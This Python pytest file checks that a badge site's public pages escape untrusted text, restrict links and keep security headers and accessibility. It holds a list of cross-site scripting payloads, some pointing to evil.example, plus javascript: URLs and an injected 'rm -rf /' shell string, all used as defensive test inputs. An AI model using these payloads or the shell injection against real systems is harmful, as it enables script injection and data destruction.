"""Pages for people: what they show, and that nothing an issuer or a learner wrote can become markup or a script."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, fields, is_dataclass, replace
from datetime import UTC, date, datetime, timedelta, timezone
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any

import pytest

from app.public.pages import (
    STATE_TEXTS,
    AchievementView,
    AlignmentView,
    CardView,
    CreatorView,
    CredentialState,
    CredentialView,
    CriterionView,
    EvidenceView,
    HomeView,
    IssuerView,
    KeyView,
    LevelView,
    NotFoundView,
    OtherIdentifierView,
    PanelView,
    Party,
    ProblemsView,
    ProblemView,
    RequiredEvidenceView,
    ResultView,
    TaskPartView,
    TranslationView,
    VersionView,
    View,
)
from app.public.rendering import (
    SECURITY_HEADERS,
    STATIC_DIRECTORY,
    local_path,
    long_date,
    long_time,
    paragraphs,
    render,
    summary,
    web_url,
    with_code,
)

BASE = "https://badges.example"
ISSUER = Party("Mira Education", f"{BASE}/issuers/mira")
ALIGNMENT = AlignmentView(
    "Equity", "https://standards.example/3", "PSEL 3", "Professional Standards", "Leaders strive for equity.", "CFItem"
)
CARD = CardView(
    "Implementing Equitable Practices", f"{BASE}/achievements/1", "In short.", "Mira Education", f"{BASE}/images/ab.png"
)
LEVELS = (
    LevelView("not-evident", "Not evident", "Nothing to be seen.", "0"),
    LevelView("demonstrated", "Demonstrated", "Seen with evidence.", "1"),
    LevelView("exemplary", "Exemplary", "Others could follow.", None),
)

CREDENTIAL = CredentialView(
    base_url=BASE,
    title="Implementing Equitable Practices",
    description="Finds an inequity.\n\nAnswers it.",
    url=f"{BASE}/credentials/5f0c",
    json_url=f"{BASE}/credentials/5f0c",
    png_url=f"{BASE}/credentials/5f0c/badge.png",
    svg_url=f"{BASE}/credentials/5f0c/badge.svg",
    image_url=f"{BASE}/images/ab.png",
    image_alt="Badge with the letters IE",
    issuer=ISSUER,
    achievement_url=f"{BASE}/achievements/1/v2",
    state="valid",
    awarded_on=date(2026, 4, 14),
    valid_from=datetime(2026, 4, 14, 16, 5, tzinfo=UTC),
    valid_until=datetime(2029, 4, 14, tzinfo=UTC),
    checked_at=datetime(2026, 11, 23, 13, 5, tzinfo=UTC),
    recipient_name="Adaeze Okonkwo",
    outcome="Demonstrated on every criterion.",
    narrative="Read twice.",
    results=(
        ResultView("Problem", "Demonstrated", 2, 3, "Seen with evidence.", f"{BASE}/achievements/1/v2#problem"),
        ResultView("Impact", "Exemplary", 3, 3),
    ),
    evidence=(
        EvidenceView("Referrals", "Artifact", "Fewer.\nAnd fairer.", "https://evidence.example/referrals.pdf"),
        EvidenceView("Recording", "Video", "Held back."),
    ),
    panel=Party("Equity Panel", f"{BASE}/panels/7"),
    panel_description="Trained every quarter.",
)
ACHIEVEMENT = AchievementView(
    base_url=BASE,
    name="Implementing Equitable Practices",
    description="Finds an inequity and answers it.",
    url=f"{BASE}/achievements/1/v2",
    json_url=f"{BASE}/achievements/1/v2",
    image_url=f"{BASE}/images/ab.png",
    image_alt="Badge",
    issuer=ISSUER,
    version=2,
    state="published",
    achievement_type="MicroCredential",
    criteria_narrative="Show it.",
    decision_rule="Every criterion at its passing level.",
    criteria=(
        CriterionView("problem", "Problem", LEVELS, "demonstrated", "Names it.", True, (ALIGNMENT,)),
        CriterionView("impact", "Impact", LEVELS, "demonstrated"),
    ),
    creator=CreatorView(
        "Center",
        "https://center.example",
        "Designs assessments.",
        "The director",
        Party("University", "https://university.example"),
        (OtherIdentifierView("C-9", "systemId"),),
    ),
    criteria_url="https://center.example/criteria",
    in_language="en",
    translations=(TranslationView("fr", "Des pratiques équitables", f"{BASE}/achievements/2/v1"),),
    field_of_study="Education",
    specialization="School leadership",
    human_code="IEP-1",
    credits_available="1.5",
    other_identifiers=(OtherIdentifierView("17-4", "sourcedId"),),
    published_on=date(2026, 2, 1),
    task_summary="Six weeks.",
    task_parts=(TaskPartView("overview", "The problem", "Describe it."),),
    required_evidence=(RequiredEvidenceView("Plan", "Artifact", "Two pages.", 2),),
    alignments=(ALIGNMENT,),
    tags=("equity",),
    versions=(
        VersionView(3, f"{BASE}/achievements/1/v3", "draft"),
        VersionView(2, f"{BASE}/achievements/1/v2", "published", date(2026, 2, 1)),
    ),
)
PROBLEM = ProblemView(
    base_url=BASE,
    code="lint_failed",
    title="The badge would not conform",
    status=422,
    cause="It breaks `Open Badges`.",
    cure="Mend what `faults` names.",
    example={"code": "lint_failed", "status": 422},
    example_request="POST /v1/decisions",
)
PAGES: dict[str, View] = {
    "credential.html": CREDENTIAL,
    "achievement.html": ACHIEVEMENT,
    "issuer.html": IssuerView(
        base_url=BASE,
        name="Mira Education",
        description="A nonprofit.",
        url=f"{BASE}/issuers/mira",
        json_url=f"{BASE}/issuers/mira",
        did="did:web:badges.example:issuers:mira",
        website="https://mira.example",
        image_url=f"{BASE}/images/cd.png",
        image_alt="Mark",
        achievements=(CARD,),
        keys=(KeyView("did:web:badges.example:issuers:mira#z6Mk", "in use", date(2026, 1, 4)),),
    ),
    "panel.html": PanelView(
        base_url=BASE,
        name="Equity Panel",
        description="Practitioners.",
        issuer=ISSUER,
        assessor_count=7,
        website="https://mira.example/panel",
    ),
    "problem.html": PROBLEM,
    "problems.html": ProblemsView(base_url=BASE, problems=(PROBLEM,)),
    "home.html": HomeView(
        base_url=BASE,
        docs_url=f"{BASE}/docs",
        openapi_url=f"{BASE}/openapi.json",
        issuers=(CARD,),
        achievements=(CARD,),
        example_credential_url=f"{BASE}/credentials/5f0c",
    ),
    "not_found.html": NotFoundView(base_url=BASE),
}
ALL_PAGES = pytest.mark.parametrize("name", PAGES)

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</p></section><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
    "{{ 7*7 }}{% raw %}<x>",
    "`<img src=x onerror=alert(1)>`",
    "<\x00script>alert(1)</script>",
    "paragraph\n\n<script>alert(1)</script>\n\n<b>",
)


@dataclass
class Element:
    name: str
    attributes: dict[str, str]


class Outline(HTMLParser):
    """The elements of a page as a browser would build them, and the texts between."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())

    def all(self, name: str) -> list[dict[str, str]]:
        return [element.attributes for element in self.elements if element.name == name]

    def signature(self) -> list[tuple[str, tuple[str, ...]]]:
        """Which elements with which attributes: what an untrusted text must not be able to change."""
        return [(element.name, tuple(sorted(element.attributes))) for element in self.elements]


def poisoned(value: Any, payload: str, *, keep: frozenset[str] = frozenset()) -> Any:
    """The value with the payload in the place of every text in it, but for fields that are not free text."""
    if isinstance(value, str):
        return payload
    if isinstance(value, tuple):
        return tuple(poisoned(item, payload, keep=keep) for item in value)
    if isinstance(value, dict):
        return {f"{key}{payload}": poisoned(item, payload, keep=keep) for key, item in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        changes = {
            entry.name: poisoned(getattr(value, entry.name), payload, keep=keep)
            for entry in fields(value)
            if entry.name not in keep
        }
        return replace(value, **changes)
    return value


NOT_FREE = frozenset({"base_url", "state", "key", "passing_level", "code"})
URLS = frozenset(
    "url json_url image_url achievement_url criteria_url target_url website docs_url openapi_url example_credential_url".split()  # noqa: SIM905
) | {"png_url", "svg_url"}


def text_fields(view: Any) -> Iterator[str]:
    for entry in fields(view):
        value = getattr(view, entry.name)
        for item in value if isinstance(value, tuple) else (value,):
            if is_dataclass(item):
                yield from text_fields(item)
            elif isinstance(item, str) and entry.name not in NOT_FREE | URLS:
                yield item


# --- untrusted texts -------------------------------------------------------------------------------------------------


@ALL_PAGES
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_markup(name: str, payload: str) -> None:
    harmless = "\n\n".join("x" for _ in payload.split("\n\n"))
    expected = Outline(render(name, poisoned(PAGES[name], harmless, keep=NOT_FREE | URLS))).signature()
    outline = Outline(render(name, poisoned(PAGES[name], payload, keep=NOT_FREE | URLS)))

    if "`" not in payload:  # backticks make <code> of our own texts, and of what stands in them
        assert outline.signature() == expected
    assert not any(attribute.startswith("on") for element in outline.elements for attribute in element.attributes)
    assert "alert(1)" not in payload or name == "not_found.html" or "alert(1)" in outline.text, (
        "shown as text, not dropped"
    )


@ALL_PAGES
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_an_address(name: str, payload: str) -> None:
    outline = Outline(render(name, poisoned(PAGES[name], payload, keep=NOT_FREE)))

    for element in outline.elements:
        for attribute in ("href", "src", "action", "srcset", "data"):
            address = element.attributes.get(attribute, "/")
            assert address.startswith(("/", "#")), (element, address)
            assert not address.startswith("//")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_keys_and_codes_stay_within_their_attributes(payload: str) -> None:
    """Keys are checked long before they get here; the page does not rely on it."""
    keep = NOT_FREE - {"key", "code", "passing_level"} | URLS
    for name in ("achievement.html", "problem.html", "problems.html"):
        outline = Outline(render(name, poisoned(PAGES[name], payload, keep=keep)))
        assert not outline.all("script")
        assert not any(attribute.startswith("on") for element in outline.elements for attribute in element.attributes)


def test_the_corpus_is_dangerous_where_it_is_not_escaped() -> None:
    """The counterpart: the same texts between tags as they are make elements, or else the tests above prove nothing."""
    active = [payload for payload in PAYLOADS if re.search(r"<[a-zA-Z/!]", payload)]
    assert len(active) >= 25
    assert Outline(f"<p>{PAYLOADS[0]}</p>").all("script")
    assert Outline(f'<p title="{PAYLOADS[21]}">').all("p")[0]["onmouseover"] == "alert(1)"


# --- no script, no style, no strangers -------------------------------------------------------------------------------


@ALL_PAGES
def test_a_page_needs_nothing_the_policy_forbids(name: str) -> None:
    outline = Outline(render(name, PAGES[name]))

    for forbidden in ("script", "style", "form", "iframe", "object", "embed", "base"):
        assert not outline.all(forbidden)
    for element in outline.elements:
        assert "style" not in element.attributes
        assert not any(attribute.startswith("on") for attribute in element.attributes)
    for image in outline.all("img"):
        assert image["src"].startswith("/images/")
        assert image["width"]
        assert image["height"]
        assert "alt" in image
    assert [link["href"] for link in outline.all("link") if link["rel"] == "stylesheet"] == ["/static/assay.css"]


def test_the_policy() -> None:
    policy = SECURITY_HEADERS["Content-Security-Policy"]
    assert policy.startswith("default-src 'none';")
    assert "unsafe" not in policy
    assert "script-src" not in policy
    assert SECURITY_HEADERS["X-Content-Type-Options"] == "nosniff"


def test_styles_and_icon_ask_nobody_else() -> None:
    assert not re.search(r"url\(|@import|https?:", (STATIC_DIRECTORY / "assay.css").read_text("utf-8"))
    icon = (STATIC_DIRECTORY / "favicon.svg").read_text("utf-8").replace("http://www.w3.org/2000/svg", "")
    assert "http" not in icon
    assert "script" not in icon


@ALL_PAGES
def test_styles_are_found_below_a_path(name: str) -> None:
    outline = Outline(render(name, replace(PAGES[name], base_url="https://example.org/badges")))
    assert "/badges/static/assay.css" in {link["href"] for link in outline.all("link")}


# --- accessibility ---------------------------------------------------------------------------------------------------


@ALL_PAGES
def test_a_page_is_laid_out_for_everyone(name: str) -> None:
    outline = Outline(render(name, PAGES[name]))

    assert outline.all("html") == [{"lang": "en"}]
    for landmark in ("header", "main", "footer", "h1", "title"):
        assert outline.all(landmark), landmark
    assert len(outline.all("h1")) == len(outline.all("main")) == 1
    assert outline.all("a")[0] == {"class": "skip", "href": "#_content"}
    levels = [int(element.name[1]) for element in outline.elements if re.fullmatch(r"h[1-6]", element.name)]
    assert all(after - before <= 1 for before, after in pairwise(levels)), levels


@ALL_PAGES
def test_ids_are_unique_and_references_lead_somewhere(name: str) -> None:
    outline = Outline(render(name, PAGES[name]))
    ids = [element.attributes["id"] for element in outline.elements if "id" in element.attributes]

    assert len(ids) == len(set(ids))
    for element in outline.elements:
        if "aria-labelledby" in element.attributes:
            assert element.attributes["aria-labelledby"] in ids
        if element.name == "a" and element.attributes["href"].startswith("#"):
            assert element.attributes["href"][1:] in ids


TOKENS = re.compile(r"--([a-z-]+): (#[0-9a-f]{6});")
CONTRASTS = [
    *(
        (ink, ground)
        for ink in ("ink", "ink-soft", "accent")
        for ground in ("paper", "raised", "sunken", "accent-wash", "target")
    ),
    ("accent-ink", "accent"),
    *((ink, f"{state}-wash") for state in ("good", "hold", "bad", "past") for ink in (state, "ink", "ink-soft")),
]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(("ink", "ground"), CONTRASTS)
def test_colors_keep_contrast_aa(scheme: str, ink: str, ground: str) -> None:
    light, dark = (STATIC_DIRECTORY / "assay.css").read_text("utf-8").split("@media (prefers-color-scheme: dark)")
    colors = dict(TOKENS.findall(light))
    if scheme == "dark":
        colors |= dict(TOKENS.findall(dark.split("/* Elements */")[0]))
    assert contrast(colors[ink], colors[ground]) >= 4.5


def contrast(a: str, b: str) -> float:
    """WCAG 2.2, contrast ratio of two "#rrggbb"."""
    darker, lighter = sorted(map(luminance, (a, b)))
    return (lighter + 0.05) / (darker + 0.05)


def luminance(color: str) -> float:
    channels = [int(color[k : k + 2], 16) / 255 for k in (1, 3, 5)]
    red, green, blue = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


# --- what the pages show ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["credential.html", "achievement.html", "issuer.html", "panel.html"])
def test_every_text_of_a_view_is_shown(name: str) -> None:
    page = render(name, PAGES[name])
    shown = Outline(page).text + page
    for text in text_fields(PAGES[name]):
        for part in text.split("\n"):
            assert part in shown, part


@pytest.mark.parametrize("state", list(STATE_TEXTS))
def test_a_credential_says_how_it_stands(state: CredentialState) -> None:
    outline = Outline(render("credential.html", replace(CREDENTIAL, state=state)))

    assert STATE_TEXTS[state].label in outline.text
    assert STATE_TEXTS[state].sentence in outline.text
    assert all(other.sentence not in outline.text for key, other in STATE_TEXTS.items() if key != state)
    assert "Checked 23 November 2026, 13:05 UTC" in outline.text


def test_a_credential_shows_results_and_dates() -> None:
    text = Outline(render("credential.html", CREDENTIAL)).text

    assert "Level 2 of 3" in text
    assert "Level 3 of 3" in text
    assert "Awarded on 14 April 2026" in text
    assert "Valid until 14 April 2029" in text
    assert "Valid until No end date" in Outline(render("credential.html", replace(CREDENTIAL, valid_until=None))).text


def test_a_credential_without_a_name_shows_none() -> None:
    text = Outline(render("credential.html", replace(CREDENTIAL, recipient_name=None))).text
    assert "Adaeze" not in text
    assert "None" not in text
    assert "Awarded by Mira Education" in text


def test_only_web_addresses_of_evidence_are_links() -> None:
    linked = replace(CREDENTIAL, evidence=(EvidenceView("E", url="https://evidence.example/a?b=1&c=2"),))
    assert "https://evidence.example/a?b=1&c=2" in {
        a["href"] for a in Outline(render("credential.html", linked)).all("a")
    }
    hidden = replace(CREDENTIAL, evidence=(EvidenceView("E", url="javascript:alert(1)"),))
    assert "javascript" not in render("credential.html", hidden)


def test_the_verify_command_is_one_for_a_shell() -> None:
    assert f"""-d '{{"url": "{BASE}/credentials/5f0c"}}'""" in CREDENTIAL.verify_command
    assert CREDENTIAL.verify_command.endswith(f"{BASE}/v1/verify")
    hostile = replace(CREDENTIAL, url="https://x/'; rm -rf /; '")
    assert "'; rm" not in hostile.verify_command.replace("'\"'\"'", "")


def test_an_achievement_has_anchors_for_criteria_levels_and_outcome() -> None:
    ids = {element.attributes.get("id") for element in Outline(render("achievement.html", ACHIEVEMENT)).elements}
    keys = {f"{criterion.key}-{level.key}" for criterion in ACHIEVEMENT.criteria for level in criterion.levels}
    assert ids >= {"problem", "impact", "outcome"} | keys


def test_levels_from_the_passing_one_upward_are_marked() -> None:
    outline = Outline(render("achievement.html", ACHIEVEMENT))
    rungs = {li["id"]: "rung-passing" in li["class"] for li in outline.all("li") if "rung" in li.get("class", "")}
    assert rungs == {
        f"{criterion}-{level}": level != "not-evident"
        for criterion in ("problem", "impact")
        for level in ("not-evident", "demonstrated", "exemplary")
    }


@pytest.mark.parametrize("name", ["credential.html", "achievement.html", "issuer.html"])
def test_shared_links_have_a_preview(name: str) -> None:
    meta = {
        entry.get("property", entry.get("name")): entry.get("content")
        for entry in Outline(render(name, PAGES[name])).all("meta")
    }
    assert meta["og:type"] == "website"
    assert meta["og:title"]
    assert meta["og:description"]
    assert meta["og:url"] == PAGES[name].url  # type: ignore[union-attr]
    assert meta["og:image"].startswith(f"{BASE}/images/")  # type: ignore[union-attr]


def test_search_engines_are_let_in_on_request_only() -> None:
    assert 'content="noindex"' in render("credential.html", CREDENTIAL)
    assert "noindex" not in render("credential.html", replace(CREDENTIAL, is_listed=True))
    assert "noindex" not in render("achievement.html", ACHIEVEMENT)


def test_pictures_from_elsewhere_are_left_out() -> None:
    page = render("credential.html", replace(CREDENTIAL, image_url="https://tracker.example/pixel.png"))
    assert not Outline(page).all("img")


def test_no_view_has_room_for_what_must_not_be_shown() -> None:
    """No field for an e-mail address, an identity hash or a salt: whoever adds one has to think again."""
    seen: set[str] = set()

    def collect(view: Any) -> None:
        for entry in fields(view):
            seen.add(entry.name)
            value = getattr(view, entry.name)
            for item in value if isinstance(value, tuple) else (value,):
                if is_dataclass(item):
                    collect(item)

    for view in PAGES.values():
        collect(view)
    assert "recipient_name" in seen
    assert not {name for name in seen if re.search(r"mail|hash|salt|identity|assessors$|members|learner", name)}


def test_a_problem_page_shows_its_example_and_code() -> None:
    outline = Outline(render("problem.html", PROBLEM))
    assert '"code": "lint_failed"' in outline.text
    assert "Mend what faults names." in outline.text


# --- the small functions ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["https://example.org", "http://example.org:8080/a?b=c#d", "https://bücher.example/ä", "https://[2001:db8::1]/"],
)
def test_web_addresses(url: str) -> None:
    assert web_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        None,
        "",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        " https://example.org",
        "https://example.org/a b",
        "https://example.org/\x00",
        "https://example.org/\u202egpj.exe",
        'https://example.org/"onclick=',
        "https://user@example.org/",
        "https://bank.example@evil.example/",
        "data:text/html,x",
        "ftp://example.org",
        "mailto:a@example.org",
        "//example.org",
        "/path",
        "https://",
        "https:///path",
        "https://example.org:port/",
        "https://[::1",
        "https://example.org/" + "a" * 2048,
    ],
)
def test_what_is_no_web_address(url: str | None) -> None:
    assert web_url(url) is None


def test_local_paths() -> None:
    assert local_path(f"{BASE}/images/a.png", BASE) == "/images/a.png"
    assert local_path("https://other.example/images/a.png", BASE) is None
    assert local_path("http://badges.example/images/a.png", BASE) is None
    assert local_path(f"{BASE}.evil.example/a.png", BASE) is None
    assert local_path(None, BASE) is None


def test_paragraphs() -> None:
    assert paragraphs("One\r\ntwo\n \n\nthree <b>") == (
        '<p dir="auto">One<br>\ntwo</p>\n<p dir="auto">three &lt;b&gt;</p>'
    )
    assert paragraphs("  \n\n ") == ""


def test_code_in_our_own_texts() -> None:
    assert with_code("Mend `a<b` or `faults`.") == "Mend <code>a&lt;b</code> or <code>faults</code>."
    assert with_code("One ` alone") == "One ` alone"


def test_summaries_end_at_a_word() -> None:
    assert summary("A  text\nof two lines") == "A text of two lines"
    assert summary("word " * 100, 20) == "word word word…"


def test_dates_are_told_in_utc() -> None:
    late = datetime(2026, 4, 14, 23, 30, tzinfo=timezone(timedelta(hours=-4)))
    assert long_date(late) == "15 April 2026"
    assert long_time(late) == "15 April 2026, 03:30 UTC"
    assert long_date(date(2026, 4, 14)) == "14 April 2026"
